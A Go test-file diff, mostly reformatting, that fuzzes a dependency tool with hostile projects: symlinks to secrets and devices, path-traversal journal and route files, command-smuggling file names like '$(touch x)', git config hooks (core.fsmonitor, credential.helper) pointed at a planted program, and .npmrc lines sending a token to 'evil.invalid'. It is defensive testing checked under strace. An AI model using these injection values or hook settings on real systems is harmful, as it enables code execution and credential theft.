@@ -76,7 +76,10 @@ type hostile struct {
 func newHostile(t *testing.T, seed uint64, registry string) *hostile {
 	dir, err := filepath.EvalSymlinks(t.TempDir())
 	require.NoError(t, err)
-	h := &hostile{seed: seed, rng: rand.New(rand.NewPCG(seed, 13)), registry: registry, dir: dir, root: filepath.Join(dir, "project"), outside: filepath.Join(dir, "outside")}
+	h := &hostile{
+		seed: seed, rng: rand.New(rand.NewPCG(seed, 13)), registry: registry, dir: dir, root: filepath.Join(dir, "project"),
+		outside: filepath.Join(dir, "outside"),
+	}
 	for _, d := range []string{h.root, h.outside, filepath.Join(dir, "home"), filepath.Join(dir, "tmp")} {
 		require.NoError(t, os.Mkdir(d, 0o755))
 	}
@@ -84,7 +87,10 @@ func newHostile(t *testing.T, seed uint64, registry string) *hostile {
 	program := "#!/bin/sh\ntouch " + filepath.Join(h.outside, "ran") + "\ncat\n"
 	require.NoError(t, os.WriteFile(filepath.Join(h.outside, "program"), []byte(program), 0o755))
 	h.write("package.json", `{ "dependencies": { "left": "^1.0.0" } }`)
-	h.write("package-lock.json", `{ "lockfileVersion": 3, "packages": { "": { "dependencies": { "left": "^1.0.0" } }, "node_modules/left": { "version": "1.0.0" } } }`)
+	h.write(
+		"package-lock.json",
+		`{ "lockfileVersion": 3, "packages": { "": { "dependencies": { "left": "^1.0.0" } }, "node_modules/left": { "version": "1.0.0" } } }`,
+	)
 	h.write("bellwether.yaml", "stages:\n  - {name: fetch, skip: nothing is installed here}\n")
 	if h.rng.IntN(4) > 0 {
 		h.git("init", "-q", "-b", "main")
@@ -145,19 +151,39 @@ type trap struct {
 
 var traps = []trap{
 	{"a link to a secret", func(h *hostile) {
-		h.link(filepath.Join(h.outside, "secret"), h.pick("package.json", "package-lock.json", ".npmrc", "bellwether.yaml", ".nvmrc", "go.mod", "Dockerfile", "a/package.json"))
+		h.link(
+			filepath.Join(h.outside, "secret"),
+			h.pick("package.json", "package-lock.json", ".npmrc", "bellwether.yaml", ".nvmrc", "go.mod", "Dockerfile", "a/package.json"),
+		)
 	}},
 	{"a link to a device", func(h *hostile) {
-		h.link(h.pick("/dev/zero", "/dev/random", "/dev/tty", "/proc/self/mem"), h.pick(".npmrc", "bellwether.yaml", ".nvmrc", "package-lock.json", "Dockerfile"))
+		h.link(
+			h.pick("/dev/zero", "/dev/random", "/dev/tty", "/proc/self/mem"),
+			h.pick(".npmrc", "bellwether.yaml", ".nvmrc", "package-lock.json", "Dockerfile"),
+		)
 	}},
 	{"a link to a folder", func(h *hostile) {
-		h.link(h.pick(h.outside, "/", ".", "..", "../project"), h.pick(".bellwether", "a", "b/c", "node_modules", "vendor", ".bellwether/logs", ".bellwether/journal", ".bellwether/scratch"))
+		h.link(
+			h.pick(h.outside, "/", ".", "..", "../project"),
+			h.pick(".bellwether", "a", "b/c", "node_modules", "vendor", ".bellwether/logs", ".bellwether/journal", ".bellwether/scratch"),
+		)
 	}},
 	{"a link in place of what is kept", func(h *hostile) {
-		h.link(filepath.Join(h.outside, "written"), h.pick(".bellwether/lock", ".bellwether/.gitignore", ".bellwether/route.yaml", ".bellwether/journey.json", ".bellwether/owner.json", ".bellwether/baseline.json"))
+		h.link(
+			filepath.Join(h.outside, "written"),
+			h.pick(
+				".bellwether/lock", ".bellwether/.gitignore", ".bellwether/route.yaml", ".bellwether/journey.json", ".bellwether/owner.json",
+				".bellwether/baseline.json",
+			),
+		)
 	}},
 	{"a pipe", func(h *hostile) {
-		h.pipe(h.pick(".npmrc", "bellwether.yaml", ".nvmrc", "package-lock.json", "package.json", "Dockerfile", ".bellwether/route.yaml", ".bellwether/lock", ".bellwether/git.json"))
+		h.pipe(
+			h.pick(
+				".npmrc", "bellwether.yaml", ".nvmrc", "package-lock.json", "package.json", "Dockerfile", ".bellwether/route.yaml",
+				".bellwether/lock", ".bellwether/git.json",
+			),
+		)
 	}},
 	{"a large file", func(h *hostile) {
 		name := h.pick("bellwether.yaml", ".npmrc", "package-lock.json", ".nvmrc", ".bellwether/route.yaml")
@@ -167,7 +193,12 @@ var traps = []trap{
 	}},
 	{"a planted journal", func(h *hostile) {
 		h.write(".bellwether/journal/000", "evil")
-		h.write(".bellwether/journal/record.json", `{"files": [{"file": "`+h.pick("evil", ".git/hooks/post-commit", "../outside/written", "package.json")+`", "before": "", "after": "4f0aa9d9cc6bb1b3ac0a9b0c0e2a8b7b3b0e4c5a", "mode": 493}]}`)
+		h.write(
+			".bellwether/journal/record.json",
+			`{"files": [{"file": "`+h.pick(
+				"evil", ".git/hooks/post-commit", "../outside/written", "package.json",
+			)+`", "before": "", "after": "4f0aa9d9cc6bb1b3ac0a9b0c0e2a8b7b3b0e4c5a", "mode": 493}]}`,
+		)
 	}},
 	{"planted notes", func(h *hostile) {
 		h.write(".bellwether/git.json", `{"mark": "x", "what": "`+h.pick("reset", "commit", "switch")+`", "from": "HEAD~1", "to": "HEAD"}`)
@@ -175,10 +206,22 @@ var traps = []trap{
 	}},
 	{"a planted journey", func(h *hostile) {
 		h.write(".bellwether/before/x/000", "evil")
-		h.write(".bellwether/journey.json", `{"legs": [{"id": "x", "title": "x", "status": "`+h.pick("repair", "done", "begun")+`", "files": ["`+h.pick("package.json", "../outside/written", ".git/config")+`"]}]}`)
+		h.write(
+			".bellwether/journey.json",
+			`{"legs": [{"id": "x", "title": "x", "status": "`+h.pick(
+				"repair", "done", "begun",
+			)+`", "files": ["`+h.pick(
+				"package.json", "../outside/written", ".git/config",
+			)+`"]}]}`,
+		)
 	}},
 	{"a planted route", func(h *hostile) {
-		h.write(".bellwether/route.yaml", "schema: bellwether/route/1\ndestination: [left]\nadvisories: "+h.outside+"\nlegs:\n  - id: "+h.pick("x", "..", "../../outside", "a/b")+"\n    title: x\n    component: .\n    moves: [{name: left, from: 1.0.0, to: 1.1.0}]\n")
+		h.write(
+			".bellwether/route.yaml",
+			"schema: bellwether/route/1\ndestination: [left]\nadvisories: "+h.outside+"\nlegs:\n  - id: "+h.pick(
+				"x", "..", "../../outside", "a/b",
+			)+"\n    title: x\n    component: .\n    moves: [{name: left, from: 1.0.0, to: 1.1.0}]\n",
+		)
 	}},
 	{"names that nobody writes", func(h *hostile) {
 		name := h.pick("\xff\xfe", "a\nb", "-rf", "--upload-pack=x", "\x1b[2J", "\u202eabc", " ", "$(touch x)", strings.Repeat("x", 250))
@@ -186,9 +229,19 @@ var traps = []trap{
 	}},
 	{"git's configuration", func(h *hostile) {
 		p := filepath.Join(h.outside, "program")
-		h.git("config", h.pick("core.fsmonitor", "core.hooksPath", "core.sshCommand", "core.pager", "diff.external", "gpg.program", "credential.helper", "core.editor", "core.alternateRefsCommand", "core.askPass"), p)
+		h.git(
+			"config",
+			h.pick(
+				"core.fsmonitor", "core.hooksPath", "core.sshCommand", "core.pager", "diff.external", "gpg.program", "credential.helper",
+				"core.editor", "core.alternateRefsCommand", "core.askPass",
+			),
+			p,
+		)
 		h.git("config", "filter.x."+h.pick("clean", "process", "smudge"), p)
-		h.git("config", h.pick("core.worktree", "core.excludesFile", "core.attributesFile"), h.pick("/", h.outside, "/dev/zero", filepath.Join(h.outside, "secret")))
+		h.git(
+			"config", h.pick("core.worktree", "core.excludesFile", "core.attributesFile"),
+			h.pick("/", h.outside, "/dev/zero", filepath.Join(h.outside, "secret")),
+		)
 		if h.rng.IntN(8) == 0 {
 			h.git("config", "include.path", "/dev/zero") // git reads what its configuration includes
 		}
@@ -208,7 +261,18 @@ var traps = []trap{
 		p := filepath.Join(h.outside, "program")
 		h.write(h.pick(".yarnrc", "a/.yarnrc"), "yarn-path \""+p+"\"\n")
 		h.write(".yarnrc.yml", "yarnPath: "+p+"\n")
-		h.write(".npmrc", h.pick("node-options=--require "+p, "script-shell="+p, "git="+p, "registry=https://evil.invalid/${HOME}/", "proxy=http://127.0.0.1:9/", "cafile="+filepath.Join(h.outside, "secret"), "//evil.invalid/:_authToken=${HOME}")+"\n")
+		h.write(
+			".npmrc",
+			h.pick(
+				"node-options=--require "+p,
+				"script-shell="+p,
+				"git="+p,
+				"registry=https://evil.invalid/${HOME}/",
+				"proxy=http://127.0.0.1:9/",
+				"cafile="+filepath.Join(h.outside, "secret"),
+				"//evil.invalid/:_authToken=${HOME}",
+			)+"\n",
+		)
 		h.write(".pnpmfile.cjs", "require('child_process').execSync('"+p+"')\n")
 	}},
 	{"toolchains", func(h *hostile) {
@@ -220,7 +284,11 @@ var traps = []trap{
 	}},
 	{"patterns that lead out", func(h *hostile) {
 		h.link(h.outside, "away")
-		h.write("bellwether.yaml", "stages:\n  - {name: fetch, skip: x}\n  - {name: clean, remove: ['away/**', 'away', '**/secret']}\n  - {name: test, command: ['true'], results: ['away/*', '**/*']}\n")
+		h.write(
+			"bellwether.yaml",
+			"stages:\n  - {name: fetch, skip: x}\n  - {name: clean, remove: ['away/**', 'away', '**/secret']}\n  - {name: test, "+
+				"command: ['true'], results: ['away/*', '**/*']}\n",
+		)
 	}},
 	{"a folder that nobody reads", func(h *hostile) {
 		h.write("closed/package.json", "{}")
@@ -236,7 +304,10 @@ var traps = []trap{
 
 // command is one that is run on the project.
 func (h *hostile) command() []string {
-	reading := [][]string{{"survey"}, {"survey", "--offline"}, {"prereqs"}, {"route", "--reach", "minor"}, {"explain", "left"}, {"status"}, {"books"}, {"route", "--reach", "major", "--format", "json"}}
+	reading := [][]string{
+		{"survey"}, {"survey", "--offline"}, {"prereqs"}, {"route", "--reach", "minor"}, {"explain", "left"}, {"status"}, {"books"},
+		{"route", "--reach", "major", "--format", "json"},
+	}
 	acting := [][]string{{"verify"}, {"advance"}, {"undo"}, {"culprit"}, {"tick", "x", "--pass"}, {"status", "--adopt"}}
 	all := append(reading, acting...)
 	return all[h.rng.IntN(len(all))]
@@ -251,11 +322,17 @@ var allowed = []string{
 
 // script are the programs that those run in turn which are asked for their version: many
 // of them are scripts.
-var script = []string{"sh", "bash", "dash", "env", "pyenv", "readlink", "dirname", "uname", "basename", "expr", "rustup", "ls", "cut", "tr", "sed", "grep", "head", "id", "tty", "cat", "dpkg-architecture", "dpkg", "corepack", "mktemp"}
+var script = []string{
+	"sh", "bash", "dash", "env", "pyenv", "readlink", "dirname", "uname", "basename", "expr", "rustup", "ls", "cut", "tr", "sed",
+	"grep", "head", "id", "tty", "cat", "dpkg-architecture", "dpkg", "corepack", "mktemp",
+}
 
 var (
-	executed  = regexp.MustCompile(`execve\("([^"]*)"`)
-	changed   = regexp.MustCompile(`(?:unlinkat|mkdirat|renameat2?|symlinkat|linkat|mknodat|fchmodat|unlink|mkdir|rmdir|rename|symlink|link|chmod|truncate|mknod)\((.*)\) = 0`)
+	executed = regexp.MustCompile(`execve\("([^"]*)"`)
+	changed  = regexp.MustCompile(
+		`(?:unlinkat|mkdirat|renameat2?|symlinkat|linkat|mknodat|fchmodat|unlink|mkdir|rmdir|rename|symlink|link|chmod|truncate|` +
+			`mknod)\((.*)\) = 0`,
+	)
 	opened    = regexp.MustCompile(`open(?:at)?\((?:(AT_FDCWD|[0-9]+)(?:<([^>]*)>)?, )?"([^"]*)", ([A-Z_|0-9]+).*\) = [0-9]`)
 	connected = regexp.MustCompile(`connect\([0-9]+(?:<[^>]*>)?, \{sa_family=AF_INET6?, sin6?_port=htons\(([0-9]+)\)`)
 	quotes    = regexp.MustCompile(`(?:(?:AT_FDCWD|[0-9]+)(?:<([^>]*)>)?, )?"([^"]*)"`)
@@ -267,7 +344,13 @@ const traceWithin = time.Minute
 // trace runs a command under a tracer, and looks through what it did.
 func (h *hostile) trace(t *testing.T, command []string) {
 	log := filepath.Join(h.dir, "trace")
-	args := append([]string{"--seccomp-bpf", "-f", "-y", "-s", "4096", "-o", log, "-e", "trace=execve,connect,open,openat,unlink,unlinkat,mkdir,mkdirat,rmdir,rename,renameat,renameat2,symlink,symlinkat,link,linkat,mknod,mknodat,chmod,fchmodat,truncate", program().Path}, command...)
+	args := append(
+		[]string{
+			"--seccomp-bpf", "-f", "-y", "-s", "4096", "-o", log, "-e",
+			"trace=execve,connect,open,openat,unlink,unlinkat,mkdir,mkdirat,rmdir,rename,renameat,renameat2,symlink,symlinkat,link,linkat,mknod,mknodat,chmod,fchmodat,truncate",
+			program().Path,
+		},
+		command...)
 	ctx, cancel := context.WithTimeout(t.Context(), traceWithin)
 	defer cancel()
 	cmd := exec.CommandContext(ctx, "strace", args...)
@@ -275,9 +358,25 @@ func (h *hostile) trace(t *testing.T, command []string) {
 	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
 	cmd.WaitDelay = time.Second
 	cmd.Dir = h.root
-	cmd.Env = append(os.Environ(), "HOME="+filepath.Join(h.dir, "home"), "XDG_CACHE_HOME="+h.cache, "XDG_STATE_HOME="+filepath.Join(h.dir, "home", "state"),
-		"TMPDIR="+filepath.Join(h.dir, "tmp"), "npm_config_registry="+h.registry+"/", "npm_config_fetch_timeout=2000", "GOPROXY=off", "GOSUMDB=off", "GOFLAGS=", "GOENV=off",
-		"GIT_AUTHOR_NAME=x", "GIT_AUTHOR_EMAIL=x@x.example", "GIT_COMMITTER_NAME=x", "GIT_COMMITTER_EMAIL=x@x.example")
+	cmd.Env = append(
+		os.Environ(),
+		"HOME="+filepath.Join(h.dir, "home"),
+		"XDG_CACHE_HOME="+h.cache,
+		"XDG_STATE_HOME="+filepath.Join(h.dir, "home", "state"),
+		"TMPDIR="+filepath.Join(
+			h.dir, "tmp",
+		),
+		"npm_config_registry="+h.registry+"/",
+		"npm_config_fetch_timeout=2000",
+		"GOPROXY=off",
+		"GOSUMDB=off",
+		"GOFLAGS=",
+		"GOENV=off",
+		"GIT_AUTHOR_NAME=x",
+		"GIT_AUTHOR_EMAIL=x@x.example",
+		"GIT_COMMITTER_NAME=x",
+		"GIT_COMMITTER_EMAIL=x@x.example",
+	)
 	out, err := cmd.CombinedOutput()
 	about := fmt.Sprintf("seed %d, %s: %v\n%s", h.seed, strings.Join(h.made, ", "), command, out)
 	require.NoError(t, ctx.Err(), "it does not come to an end: %s", about)
@@ -289,7 +388,8 @@ func (h *hostile) trace(t *testing.T, command []string) {
 	assert.NotContains(t, string(out), "\x1b", about)
 	assert.NoFileExists(t, filepath.Join(h.outside, "ran"), about)
 	assert.NoFileExists(t, filepath.Join(h.outside, "written"), about)
-	acts := !slices.Contains([]string{"survey", "prereqs", "explain", "books", "route", "status"}, command[0]) || slices.Contains(command, "--adopt")
+	acts := !slices.Contains([]string{"survey", "prereqs", "explain", "books", "route", "status"}, command[0]) ||
+		slices.Contains(command, "--adopt")
 	file, err := os.Open(log)
 	require.NoError(t, err)
 	defer file.Close()
@@ -302,18 +402,25 @@ func (h *hostile) trace(t *testing.T, command []string) {
 	entries, err := os.ReadDir(filepath.Join(h.dir, "tmp"))
 	require.NoError(t, err)
 	for _, e := range entries {
-		assert.False(t, strings.HasPrefix(e.Name(), "bellwether-") && !strings.HasPrefix(e.Name(), "bellwether-state"), "%s is left: %s", e.Name(), about)
+		assert.False(
+			t, strings.HasPrefix(e.Name(), "bellwether-") && !strings.HasPrefix(e.Name(), "bellwether-state"), "%s is left: %s", e.Name(),
+			about,
+		)
 	}
 }
 
 // judge looks at one thing that was done.
 func (h *hostile) judge(t *testing.T, line string, acts, offline bool, about string) {
-	if strings.HasSuffix(line, ")") || strings.Contains(line, " open") && !strings.Contains(line, "O_WRONLY") && !strings.Contains(line, "O_RDWR") && !strings.Contains(line, "O_CREAT") && !strings.Contains(line, h.outside) {
+	if strings.HasSuffix(line, ")") ||
+		strings.Contains(line, " open") && !strings.Contains(line, "O_WRONLY") && !strings.Contains(line, "O_RDWR") && !strings.Contains(line, "O_CREAT") &&
+			!strings.Contains(line, h.outside) {
 		return // it failed, or only reads
 	}
 	if m := executed.FindStringSubmatch(line); m != nil && strings.HasSuffix(line, "= 0") {
 		name := filepath.Base(m[1])
-		known := slices.Contains(allowed, name) || slices.Contains(script, name) || strings.HasPrefix(name, "git-") || strings.HasPrefix(name, "python") || strings.HasPrefix(name, "java")
+		known := slices.Contains(allowed, name) || slices.Contains(script, name) || strings.HasPrefix(name, "git-") ||
+			strings.HasPrefix(name, "python") ||
+			strings.HasPrefix(name, "java")
 		assert.True(t, known && !strings.HasPrefix(m[1], h.dir), "%s was run: %s", m[1], about)
 	}
 	if m := connected.FindStringSubmatch(line); m != nil {
@@ -327,10 +434,14 @@ func (h *hostile) judge(t *testing.T, line string, acts, offline bool, about str
 		return filepath.Clean(name)
 	}
 	change := func(name string) {
-		ok := slices.ContainsFunc([]string{h.cache, filepath.Join(h.dir, "home"), filepath.Join(h.dir, "tmp"), "/dev", "/proc", filepath.Join(h.root, ".bellwether")}, func(d string) bool {
-			return name == d || strings.HasPrefix(name, d+"/")
-		})
-		ok = ok || acts && (name == h.root || strings.HasPrefix(name, h.root+"/")) || strings.HasPrefix(name, "/tmp/hsperfdata") || strings.HasPrefix(name, os.Getenv("HOME")+"/.pyenv/shims")
+		ok := slices.ContainsFunc(
+			[]string{h.cache, filepath.Join(h.dir, "home"), filepath.Join(h.dir, "tmp"), "/dev", "/proc", filepath.Join(h.root, ".bellwether")},
+			func(d string) bool {
+				return name == d || strings.HasPrefix(name, d+"/")
+			},
+		)
+		ok = ok || acts && (name == h.root || strings.HasPrefix(name, h.root+"/")) || strings.HasPrefix(name, "/tmp/hsperfdata") ||
+			strings.HasPrefix(name, os.Getenv("HOME")+"/.pyenv/shims")
 		assert.True(t, ok, "%s was changed: %s\n%s", name, about, line)
 	}
 	if m := opened.FindStringSubmatch(line); m != nil {
